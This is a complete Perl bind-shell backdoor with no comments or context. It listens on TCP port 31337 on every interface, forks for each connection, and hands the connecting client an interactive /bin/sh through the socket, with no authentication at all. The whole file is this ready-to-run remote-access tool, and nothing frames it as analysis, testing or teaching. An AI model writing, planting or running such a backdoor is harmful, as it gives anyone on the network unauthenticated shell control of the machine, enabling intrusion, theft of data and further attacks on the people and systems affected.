#!/usr/bin/perl
use Socket;
$port = 31337;
$proto = getprotobyname('tcp');
socket(SERVER, PF_INET, SOCK_STREAM, $proto) or die;
setsockopt(SERVER, SOL_SOCKET, SO_REUSEADDR, pack("l", 1));
bind(SERVER, sockaddr_in($port, INADDR_ANY)) or die;
listen(SERVER, SOMAXCONN);
while (accept(CLIENT, SERVER)) {
    next if fork;
    open(STDIN, "<&CLIENT");
    open(STDOUT, ">&CLIENT");
    open(STDERR, ">&CLIENT");
    exec {"/bin/sh"} "sh", "-i";
}
